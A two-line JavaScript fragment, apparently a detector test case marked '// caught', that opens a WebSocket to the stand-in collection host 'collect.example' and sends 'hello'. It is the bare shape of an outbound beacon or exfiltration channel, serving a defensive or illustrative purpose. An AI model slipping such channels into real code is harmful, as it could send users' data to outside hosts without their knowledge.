const line = new WebSocket("wss://collect.example/in"); // caught
line.onopen = () => line.send("hello");
